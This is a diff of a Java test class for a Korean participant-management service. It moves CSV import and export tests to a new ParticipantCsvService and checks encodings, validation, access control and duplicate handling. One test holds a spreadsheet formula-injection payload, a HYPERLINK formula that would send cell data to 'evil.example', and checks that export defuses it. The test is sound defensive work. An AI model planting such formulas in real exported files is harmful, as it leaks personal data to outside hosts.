@@ -46,6 +46,9 @@ class PeopleServicesTest {
     InvitationService invitations;
     @Autowired
     ParticipantService participants;
+
+    @Autowired
+    kr.silheomjang.people.ParticipantCsvService participantCsv;
     @Autowired
     ProposerConsentService proposer;
     @Autowired
@@ -159,7 +162,7 @@ class PeopleServicesTest {
         assertThat(seen.email()).isNull();
         assertThatThrownBy(() -> signedIn.run(guest, () -> participants.create(id, person("몰래"))))
                 .isInstanceOf(AccessDeniedException.class);
-        assertThatThrownBy(() -> signedIn.run(guest, () -> participants.exportCsv(id)))
+        assertThatThrownBy(() -> signedIn.run(guest, () -> participantCsv.exportCsv(id)))
                 .isInstanceOf(AccessDeniedException.class);
     }
 
@@ -186,9 +189,9 @@ class PeopleServicesTest {
                 () -> participants.changeStatus(id, Map.of(pid, 0L), AttendanceStatus.ABSENT),
                 () -> participants.markAttendance(id, pid, true),
                 () -> participants.addWalkIn(id, "x", null, null),
-                () -> participants.previewImport(id, csv),
-                () -> participants.importCsv(id, csv),
-                () -> participants.exportCsv(id),
+                () -> participantCsv.previewImport(id, csv),
+                () -> participantCsv.importCsv(id, csv),
+                () -> participantCsv.exportCsv(id),
                 () -> participants.exportPerson(id, pid),
                 () -> participants.erasePerson(id, pid),
                 () -> participants.personalDataLog(id),
@@ -326,7 +329,7 @@ class PeopleServicesTest {
             participants.create(id, new ParticipantDraft("홍길동, 주니어", "010-1234-5678", "hong@x.kr",
                     ParticipantGroup.PRESENTER, AttendanceStatus.CONFIRMED, PhotoConsent.GRANTED, "휠체어",
                     "채식", "따옴표 \"포함\""));
-            byte[] csv = participants.exportCsv(id);
+            byte[] csv = participantCsv.exportCsv(id);
             assertThat(csv[0]).isEqualTo((byte) 0xEF);
             assertThat(csv[1]).isEqualTo((byte) 0xBB);
             assertThat(csv[2]).isEqualTo((byte) 0xBF);
@@ -334,9 +337,9 @@ class PeopleServicesTest {
             assertThat(text).contains("이름,전화번호,이메일,그룹,참여 상태,촬영 동의").contains("발표자")
                     .contains("참여 확정");
 
-            CsvImportPreview preview = participants.previewImport(other, csv);
+            CsvImportPreview preview = participantCsv.previewImport(other, csv);
             assertThat(preview.problems()).isEmpty();
-            assertThat(participants.importCsv(other, csv)).isEqualTo(1);
+            assertThat(participantCsv.importCsv(other, csv)).isEqualTo(1);
             ParticipantRow back = participants.list(other).get(0);
             assertThat(back.name()).isEqualTo("홍길동, 주니어");
             assertThat(back.notes()).isEqualTo("따옴표 \"포함\"");
@@ -351,11 +354,11 @@ class PeopleServicesTest {
         long id = experiment(owner);
         byte[] cp949 = "이름,그룹,메모\n김철수,참여자,똠방각하\n".getBytes(Charset.forName("x-windows-949"));
         signedIn.run(owner, () -> {
-            CsvImportPreview p = participants.previewImport(id, cp949);
+            CsvImportPreview p = participantCsv.previewImport(id, cp949);
             assertThat(p.problems()).isEmpty();
             assertThat(p.encoding()).isEqualTo(CsvEncoding.CP949);
             assertThat(p.rows()).extracting(ParticipantDraft::name).containsExactly("김철수");
-            assertThat(participants.importCsv(id, cp949)).isEqualTo(1);
+            assertThat(participantCsv.importCsv(id, cp949)).isEqualTo(1);
             assertThat(participants.list(id).get(0).notes()).isEqualTo("똠방각하");
         });
     }
@@ -366,10 +369,10 @@ class PeopleServicesTest {
         long id = experiment(owner);
         byte[] sjis = "이름,메모\nYamada,こんにちは\n".replace("이름", "名前").getBytes(Charset.forName("Shift_JIS"));
         signedIn.run(owner, () -> {
-            CsvImportPreview p = participants.previewImport(id, sjis);
+            CsvImportPreview p = participantCsv.previewImport(id, sjis);
             assertThat(p.problems()).extracting(CsvProblem::messageKey).containsExactly("csv.error.encoding");
             assertThat(p.encoding()).isNull();
-            assertThatThrownBy(() -> participants.importCsv(id, sjis)).isInstanceOf(CsvImportException.class);
+            assertThatThrownBy(() -> participantCsv.importCsv(id, sjis)).isInstanceOf(CsvImportException.class);
             assertThat(participants.count(id, ParticipantFilter.ALL)).isZero();
         });
     }
@@ -382,11 +385,11 @@ class PeopleServicesTest {
         String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"클릭\")";
         signedIn.run(owner, () -> {
             participants.create(id, ParticipantDraft.named(formula).withContacts("+82 10-1234-5678", null));
-            byte[] csv = participants.exportCsv(id);
+            byte[] csv = participantCsv.exportCsv(id);
             String text = new String(csv, StandardCharsets.UTF_8);
             assertThat(text).contains("\"'=HYPERLINK(").contains(",'+82 10-1234-5678,").doesNotContain(",=");
 
-            assertThat(participants.importCsv(other, csv)).isEqualTo(1);
+            assertThat(participantCsv.importCsv(other, csv)).isEqualTo(1);
             ParticipantRow back = participants.list(other).get(0);
             assertThat(back.name()).isEqualTo(formula);
             assertThat(back.phone()).isEqualTo("+82 10-1234-5678");
@@ -398,11 +401,11 @@ class PeopleServicesTest {
         String owner = account("소유자");
         long id = experiment(owner);
         signedIn.run(owner, () -> {
-            CsvImportPreview p = participants.previewImport(id, utf8("성함,전화번호\n김철수,010-1111-2222\n"));
+            CsvImportPreview p = participantCsv.previewImport(id, utf8("성함,전화번호\n김철수,010-1111-2222\n"));
             assertThat(p.problems()).extracting(CsvProblem::messageKey)
                     .containsExactly("people.csv.error.unknownColumn", "people.csv.error.missingColumn");
             assertThat(p.problems().get(0).value()).isEqualTo("성함");
-            assertThat(participants.previewImport(id, new byte[0]).problems()).extracting(CsvProblem::messageKey)
+            assertThat(participantCsv.previewImport(id, new byte[0]).problems()).extracting(CsvProblem::messageKey)
                     .containsExactly("csv.error.empty");
         });
     }
@@ -417,7 +420,7 @@ class PeopleServicesTest {
                 + "이영희,,영희메일,관객,참석함,몰라요\n"
                 + "박민수,010-3333-4444\n");
         signedIn.run(owner, () -> {
-            CsvImportPreview p = participants.previewImport(id, file);
+            CsvImportPreview p = participantCsv.previewImport(id, file);
             assertThat(p.ok()).isFalse();
             assertThat(p.problems()).extracting(CsvProblem::line, CsvProblem::messageKey).containsExactly(
                     org.assertj.core.groups.Tuple.tuple(3, "people.csv.error.nameRequired"),
@@ -428,7 +431,7 @@ class PeopleServicesTest {
                     org.assertj.core.groups.Tuple.tuple(4, "people.error.emailInvalid"),
                     org.assertj.core.groups.Tuple.tuple(5, "people.csv.error.columnCount"));
             assertThat(p.problems().get(2).value()).isEqualTo("관객");
-            assertThatThrownBy(() -> participants.importCsv(id, file))
+            assertThatThrownBy(() -> participantCsv.importCsv(id, file))
                     .isInstanceOfSatisfying(CsvImportException.class,
                             e -> assertThat(e.problems()).hasSize(7));
             assertThat(participants.count(id, ParticipantFilter.ALL)).isZero();
@@ -449,8 +452,8 @@ class PeopleServicesTest {
         }
         byte[] file = out.toByteArray();
         signedIn.run(owner, () -> {
-            assertThat(participants.previewImport(id, file).rows()).hasSize(5000);
-            assertThat(participants.importCsv(id, file)).isEqualTo(5000);
+            assertThat(participantCsv.previewImport(id, file).rows()).hasSize(5000);
+            assertThat(participantCsv.importCsv(id, file)).isEqualTo(5000);
             assertThat(participants.count(id, ParticipantFilter.ALL)).isEqualTo(5000);
             assertThat(participants.countsByStatus(id).of(AttendanceStatus.CONFIRMED)).isEqualTo(1667);
             assertThat(participants.page(id, ParticipantFilter.ALL, "name", true, 10, 50)).hasSize(50);
@@ -466,13 +469,13 @@ class PeopleServicesTest {
             participants.create(id, person("이영희").withContacts(null, "Lee@X.kr"));
             byte[] file = utf8("이름,전화번호,이메일,메모\n김철수(수정),01011112222,,새 메모\n이영희,,lee@x.kr,\n"
                     + "박신규,010-5555-6666,,\n박신규,010-5555-6666,,\n");
-            assertThat(participants.existingInImport(id, file)).isEqualTo(2);
+            assertThat(participantCsv.existingInImport(id, file)).isEqualTo(2);
             // Skip: the two known people stay as they are; the new one is added once.
-            assertThat(participants.importCsv(id, file, ParticipantService.ExistingRows.SKIP)).isEqualTo(1);
+            assertThat(participantCsv.importCsv(id, file, kr.silheomjang.people.ParticipantCsvService.ExistingRows.SKIP)).isEqualTo(1);
             assertThat(participants.list(id)).extracting(ParticipantRow::name)
                     .containsExactlyInAnyOrder("김철수", "이영희", "박신규");
             // Update: the known ones take the file's values; still nobody twice.
-            assertThat(participants.importCsv(id, file, ParticipantService.ExistingRows.UPDATE)).isEqualTo(4);
+            assertThat(participantCsv.importCsv(id, file, kr.silheomjang.people.ParticipantCsvService.ExistingRows.UPDATE)).isEqualTo(4);
             assertThat(participants.list(id)).extracting(ParticipantRow::name)
                     .containsExactlyInAnyOrder("김철수(수정)", "이영희", "박신규");
             assertThat(participants.list(id)).filteredOn(r -> r.name().equals("김철수(수정)")).singleElement()
